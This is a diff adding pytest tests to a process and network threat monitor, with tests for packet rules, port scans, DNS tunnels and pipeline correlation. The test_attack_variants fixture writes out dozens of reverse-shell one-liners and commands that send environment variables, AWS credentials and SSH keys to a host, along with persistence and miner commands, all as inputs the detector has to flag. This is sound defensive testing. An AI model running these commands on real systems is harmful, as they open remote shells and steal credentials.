@@ -8,6 +8,8 @@ from pathlib import Path
 
 import pytest
 
+from coi_tui.config.settings import load_settings
+from coi_tui.errors import CoiError
 from coi_tui.monitor import netlink, rules
 from coi_tui.monitor.config import MonitorConfig, load_monitor_config
 
@@ -97,6 +99,21 @@ def test_packet_rules(dst: str, port: int, rule: str, level: str) -> None:
     assert [(t.rule_id, t.level) for t in found] == [(rule, level)]
 
 
+def test_web_ports_on_the_c2_list_are_never_a_kill() -> None:
+    config = MonitorConfig(c2_ports=[4444, 8080])
+    public = rules.packet_threats(
+        rules.Packet("10.199.0.9", "192.0.2.5", "tcp", 4000, 8080), config, GW
+    )
+    assert [(t.rule_id, t.level) for t in public] == [("net.c2-port", "warning")]
+    private = rules.packet_threats(
+        rules.Packet("10.199.0.9", "10.199.0.250", "tcp", 4000, 8080), config, GW
+    )
+    assert [(t.rule_id, t.level) for t in private] == [
+        ("net.c2-port", "warning"),
+        ("net.private", "high"),
+    ]
+
+
 def test_gateway_and_public_https_are_not_flagged() -> None:
     for dst, port in ((GW, 53), (GW, 8000), ("192.0.2.1", 443)):
         pkt = rules.parse_packet(packet(dst, port))
@@ -127,11 +144,42 @@ def test_volume_and_spawn_thresholds() -> None:
     assert watch.add(3.5, 40 << 20) == 10 << 20  # the 0 s sample left the window
     assert rules.volume_threats("read", 40 << 20, 2.0, 50, "read") == []
     (read,) = rules.volume_threats("read", 60 << 20, 2.0, 50, "read")
-    assert read.rule_id == "fs.large-read" and read.level == "high"
+    assert read.rule_id == "fs.large-read-local" and read.level == "info"  # nothing sent
+    sent_off = rules.read_then_send_threat(60.0, 2.0, 50, 5.0, 0.2, 10.0, "python3 up.py")
+    assert sent_off.rule_id == "fs.large-read" and sent_off.level == "high"
+    assert sent_off.evidence["filesystem"]["sent_mb"] == 5.0  # type: ignore[index]
     (sent,) = rules.volume_threats("send", 30 << 20, 10.0, 20, "send")
     assert sent.rule_id == "net.exfil-volume"
     assert rules.spawn_threat(100, 150) == []
     assert rules.spawn_threat(151, 150)[0].rule_id == "proc.spawn-storm"
+    assert rules.spawn_threat(900, 150, live=40) == []  # ./configure: fast, short-lived
+    assert rules.spawn_threat(900, 150, live=600)[0].level == "high"  # a fork bomb
+
+
+def test_monitor_knobs_from_the_main_config(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COI_HOME", str(tmp_path))
+    monkeypatch.delenv("COI_CONFIG", raising=False)
+    (tmp_path / "config.toml").write_text(
+        "[monitoring]\ndedup_window_sec = 5\nc2_ports = [7777, 4444]\nexfil_correlate_mb = 2\n"
+        'auto_kill_on_critical = false\n[monitoring.actions]\nhigh = "alert"\n'
+    )
+    # the deprecated file only fills in what the main config leaves at its default
+    (tmp_path / "monitor.toml").write_text(
+        "[monitoring]\ndedup_window_sec = 9\nspawn_rate_per_sec = 7\n"
+        '[monitoring.actions]\nhigh = "kill"\ninfo = "alert"\n'
+    )
+    warned: list[str] = []
+    config = load_monitor_config(load_settings(tmp_path), warn=warned.append)
+    assert config.dedup_window_sec == 5.0 and config.c2_ports == [7777, 4444]
+    assert config.exfil_correlate_mb == 2.0 and config.spawn_rate_per_sec == 7
+    assert config.actions == {"info": "alert", "warning": "alert", "high": "alert",
+                              "critical": "alert"}  # fmt: skip
+    assert warned and "deprecated" in warned[0]
+    (tmp_path / "config.toml").write_text('[monitoring]\nc2_ports = ["x"]\n')
+    with pytest.raises(CoiError, match="c2_ports"):
+        load_settings(tmp_path)
 
 
 def test_extra_config_from_monitor_toml(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -171,3 +219,215 @@ def test_nflog_message_parsing() -> None:
     assert pkt.prefix == "coimon" and pkt.physindev == 362
     parsed = rules.parse_packet(pkt.payload)
     assert parsed is not None and parsed.dport == 4444
+
+
+# --------------------------------------------------------------------------- wider corpus
+H = "10.199.0.1"
+
+
+def levels(argv: list[str]) -> dict[str, str]:
+    return {t.rule_id: t.level for t in rules.cmdline_threats(42, argv, "")}
+
+
+def sh(script: str) -> list[str]:
+    return ["bash", "-c", script]
+
+
+@pytest.mark.parametrize(
+    ("argv", "rule", "level"),
+    [
+        (["busybox", "nc", H, "9001", "-e", "/bin/sh"], "proc.netcat-exec", "critical"),
+        (["nc.traditional", "-e", "/bin/bash", H, "80"], "proc.netcat-exec", "critical"),
+        (["ncat", H, "1", "--exec", "/bin/sh"], "proc.netcat-exec", "critical"),
+        (["socat", f"tcp:{H}:1", "exec:/bin/sh,pty,stderr,setsid"], "proc.socat-exec", "critical"),
+        (["socat", f"TCP4:{H}:1", "SYSTEM:bash"], "proc.socat-exec", "critical"),
+        (sh(f"sh -i >& /dev/udp/{H}/53 0>&1"), "proc.dev-tcp", "critical"),
+        (sh(f"0<&196;exec 196<>/dev/tcp/{H}/80; sh <&196 >&196 2>&196"), "proc.dev-tcp",
+         "critical"),
+        (sh(f"exec 5<>/dev/tcp/{H}/80;cat <&5 | while read l; do $l 2>&5 >&5; done"),
+         "proc.dev-tcp", "critical"),
+        (sh(f"/bin/bash -l > /dev/tcp/{H}/80 0<&1 2>&1"), "proc.dev-tcp", "critical"),
+        (sh(f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 80 >/tmp/f"),
+         "proc.fifo-shell", "critical"),
+        (sh(f"mknod /tmp/p p && /bin/sh 0</tmp/p | telnet {H} 80 1>/tmp/p"), "proc.fifo-shell",
+         "critical"),
+        (sh(f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect "
+            f"{H}:443 > /tmp/s"), "proc.fifo-shell", "critical"),
+        (["ruby", "-rsocket", "-e", f"f=TCPSocket.open('{H}',80).to_i;"
+          "exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)"], "proc.interpreter-socket",
+         "critical"),
+        (["php", "-r", f"$sock=fsockopen('{H}',80);exec('/bin/sh -i <&3 >&3 2>&3');"],
+         "proc.interpreter-socket", "critical"),
+        (["node", "-e", "require('child_process').exec('sh');var net=require('net');"
+          f"var c=new net.Socket();c.connect(80,'{H}')"], "proc.interpreter-socket", "critical"),
+        (["python3", "-c", "import socket,subprocess,os;s=socket.socket();"
+          f"s.connect(('{H}',80));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/bash')"],
+         "proc.interpreter-socket", "critical"),
+        (["awk", f"BEGIN {{s = \"/inet/tcp/0/{H}/80\"; while(1) {{ s |& getline c; "
+          "c |& getline; close(c) }}}"], "proc.interpreter-socket", "critical"),
+        (sh(f"env | curl -s -X POST --data-binary @- http://{H}:8080/x"),
+         "exfil.secrets-to-network", "high"),
+        (sh(f"printenv | nc {H} 9999"), "exfil.secrets-to-network", "high"),
+        (sh(f"curl -d \"$(env)\" http://{H}/c"), "exfil.secrets-to-network", "high"),
+        (sh(f"cat ~/.aws/credentials | base64 | curl -d @- http://{H}/"),
+         "exfil.secrets-to-network", "high"),
+        (sh(f"tar czf - ~/.ssh | nc {H} 9000"), "exfil.secrets-to-network", "high"),
+        (sh(f"cat /proc/1/environ > /dev/tcp/{H}/80"), "exfil.secrets-to-network", "high"),
+        (["curl", "-F", "f=@/root/.ssh/id_rsa", f"http://{H}/u"], "exfil.secrets-to-network",
+         "high"),
+        (["wget", "--post-file=/root/.aws/credentials", f"http://{H}/"],
+         "exfil.secrets-to-network", "high"),
+        (["python3", "-c", "import os,urllib.request;urllib.request.urlopen("
+          f"'http://{H}:8080/',data=str(dict(os.environ)).encode())"],
+         "exfil.secrets-to-network", "high"),
+        (["node", "-e", f"fetch('http://{H}/',{{method:'POST',body:JSON.stringify(process.env)}})"],
+         "exfil.secrets-to-network", "high"),
+        (["xmrig", "-o", "pool.example:3333"], "proc.miner", "critical"),
+        (["./kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "x"], "proc.miner",
+         "critical"),
+        (sh("echo '* * * * * /tmp/x' | crontab -"), "persist.cron", "warning"),
+        (sh(f"echo 'bash -i >& /dev/tcp/{H}/1 0>&1' >> ~/.bashrc"), "persist.shell-rc", "high"),
+        (sh("echo /tmp/x.so > /etc/ld.so.preload"), "persist.ld-preload", "high"),
+        (sh("echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys"), "persist.authorized-keys",
+         "warning"),
+        (sh(f"curl -s http://{H}/x.sh | bash"), "proc.download-to-shell", "warning"),
+        (sh("find / -name id_rsa 2>/dev/null; ls ~/.ssh ~/.aws"), "cred.secret-search",
+         "warning"),
+        (["ls", "-la", "/root/.ssh"], "cred.ssh-key", "warning"),
+        (["tar", "czf", "/tmp/a.tgz", "/home/code/.aws/"], "cred.cloud-file", "warning"),
+        (["grep", "-r", "aws_secret_access_key", "/home"], "cred.secret-search", "warning"),
+    ],
+)  # fmt: skip
+def test_attack_variants(argv: list[str], rule: str, level: str) -> None:
+    found = levels(argv)
+    assert found.get(rule) == level, found
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        sh("until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"),
+        sh("timeout 1 bash -c '</dev/tcp/10.0.0.5/443' && echo open"),
+        sh("ssh-keygen -t ed25519 -N '' -f /tmp/k/id_ed25519 -q"),
+        ["ssh-keygen", "-t", "ed25519", "-f", "/root/.ssh/id_ed25519", "-N", ""],
+        sh("git clone -q /root/origin /root/clone && cd /root/clone && git log"),
+        sh("cat .env.example > .env && npm test"),
+        sh("curl -fsS http://registry.npmjs.org/ -o /dev/null"),
+        sh("curl -d @payload.json http://localhost:3000/api"),
+        sh("env | grep -i path; printenv HOME"),
+        sh("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc"),
+        sh("tar czf /tmp/logs.tgz /var/log && cp -r node_modules /tmp/nm"),
+        sh("pip install --no-index --find-links /wheels devpkg && npm ci --offline"),
+        sh("docker build -t app . && docker run --rm app npm test"),
+        sh("rg -n 'nc -e|/dev/tcp|socket.socket' src/ | head"),
+        sh("crontab -l"),
+        ["python3", "-c", "import os, requests; requests.get(os.environ['API_URL'])"],
+        ["node", "-e", "console.log(process.env.HOME)"],
+        ["curl", "-T", "dist/app.tgz", "http://10.199.0.1:8080/upload"],
+        ["mkfifo", "/tmp/build.fifo"],
+        sh("mkfifo /tmp/f; (cat /tmp/f | gzip > out.gz) & seq 100 > /tmp/f; wait"),
+    ],
+)
+def test_benign_look_alikes_raise_nothing_high(argv: list[str]) -> None:
+    found = rules.cmdline_threats(1, argv, "")
+    assert [t.rule_id for t in found if t.level in ("high", "critical")] == []
+
+
+def test_script_file_of_a_shell() -> None:
+    assert rules.script_file(["bash", "/tmp/x.sh"], "/usr/bin/bash") == "/tmp/x.sh"
+    assert rules.script_file(["sh", "-e", "./build.sh", "a"], "/usr/bin/dash") == "./build.sh"
+    assert rules.script_file(["/tmp/kworker", "run.sh"], "/tmp/kworker") == ""
+    assert rules.script_file(["bash", "-c", "x.sh"], "/usr/bin/bash") == ""
+    assert rules.script_file(["bash", "-i"], "/usr/bin/bash") == ""
+    assert rules.script_file(["python3", "x.py"], "/usr/bin/python3") == ""
+    text = f"#!/bin/sh\nenv > /tmp/e\ncat /tmp/e | nc {H} 9000\n"
+    found = {t.rule_id for t in rules.script_threats(7, text, "sh x.sh", with_credentials=True)}
+    assert {"exfil.secrets-to-network", "cred.env-dump"} <= found
+
+
+def test_pipeline_roles_for_sibling_correlation() -> None:
+    assert rules.pipeline_role(["env"]) == "source"
+    assert rules.pipeline_role(["cat", "/root/.aws/credentials"]) == "source"
+    assert rules.pipeline_role(["curl", "-d", "@-", f"http://{H}/"]) == "send"
+    assert rules.pipeline_role(["nc", H, "9000"]) == "send"
+    assert rules.pipeline_role(["curl", "http://localhost:8000/"]) == ""
+    assert rules.pipeline_role(["env", "FOO=1", "make"]) == ""
+    assert rules.pipeline_role(["sort"]) == ""
+
+
+def test_port_scan_vertical_and_sweep() -> None:
+    def syn(dst: str, port: int) -> rules.Packet:
+        return rules.Packet("10.199.0.9", dst, "tcp", 40000 + port, port)
+
+    watch = rules.ScanWatch()
+    hits = [t for p in range(1, 40) for t in watch.feed(syn(H, p), p * 0.01)]
+    assert hits and hits[0].rule_id == "net.port-scan" and hits[0].level == "high"
+    sweep = rules.ScanWatch()
+    hosts = [t for i in range(30) for t in sweep.feed(syn(f"192.0.2.{i}", 22), i * 0.01)]
+    assert hosts and "22 on" in hosts[0].description
+    # a build talking to a few endpoints, many times
+    quiet = rules.ScanWatch()
+    busy = [
+        t
+        for i in range(200)
+        for t in quiet.feed(syn(("192.0.2.1", "192.0.2.2", H)[i % 3], (443, 80)[i % 2]), i * 0.01)
+    ]
+    assert busy == []
+    # slow: one port every second stays under the window
+    slow = rules.ScanWatch()
+    assert [t for p in range(30) for t in slow.feed(syn(H, 1000 + p), float(p))] == []
+
+
+def test_dns_tunnel_with_short_labels() -> None:
+    import base64
+    import os
+
+    watch = rules.DnsWatch(MonitorConfig(dns_rate_per_min=1000))
+    found = []
+    for i in range(40):
+        label = base64.b32encode(os.urandom(12)).decode().strip("=").lower()  # 20 chars
+        pkt = rules.Packet("10.199.0.9", H, "udp", 5000, 53, f"{label}.t.exfil.test", 16)
+        found += watch.feed(pkt, i * 0.1)
+    assert "dns.tunnel-volume" in {t.rule_id for t in found}
+    normal = rules.DnsWatch(MonitorConfig(dns_rate_per_min=1000))
+    names = ["registry.npmjs.org", "github.com", "api.github.com", "pypi.org",
+             "files.pythonhosted.org", "objects.githubusercontent.com"]  # fmt: skip
+    quiet = []
+    for i in range(300):
+        pkt = rules.Packet("10.199.0.9", H, "udp", 5000, 53, names[i % len(names)], 1)
+        quiet += normal.feed(pkt, i * 0.1)
+    assert quiet == [] or {t.rule_id for t in quiet} <= {"dns.rate"}
+
+
+def test_miner_port_is_high() -> None:
+    pkt = rules.Packet("10.199.0.9", "192.0.2.7", "tcp", 40000, 3333)
+    (found,) = rules.packet_threats(pkt, MonitorConfig(), H)
+    assert found.rule_id == "net.miner-port" and found.level == "high"
+
+
+def test_pipeline_correlation_in_any_exec_order() -> None:
+    import itertools
+    from collections import deque
+
+    from coi_tui.monitor.daemon import correlate_pipeline
+
+    # env | gzip | curl ..., typed at a shell (pid 10): stages joined by pipe:[1] and pipe:[2]
+    stages = [
+        (11, ["env"], "pipe:[0]", "pipe:[1]"),
+        (12, ["gzip"], "pipe:[1]", "pipe:[2]"),
+        (13, ["curl", "--data-binary", "@-", f"http://{H}/x"], "pipe:[2]", "/dev/pts/0"),
+    ]
+    for order in itertools.permutations(stages):
+        recent: deque[tuple[float, int, int, list[str], str, str]] = deque()
+        found = []
+        for i, (pid, argv, fd0, fd1) in enumerate(order):
+            recent.append((i * 0.01, pid, 10, argv, fd0, fd1))
+            found += correlate_pipeline(recent, pid, 10, i * 0.01)
+        assert [t.rule_id for t in found] == ["exfil.secrets-to-network"], order
+    # the same commands one after another (not piped together) are not a pipeline
+    recent = deque()
+    found = []
+    for i, (pid, argv, _, _) in enumerate(stages):
+        recent.append((i * 0.01, pid, 10, argv, "pipe:[9]", "/dev/null"))
+        found += correlate_pipeline(recent, pid, 10, i * 0.01)
+    assert found == []
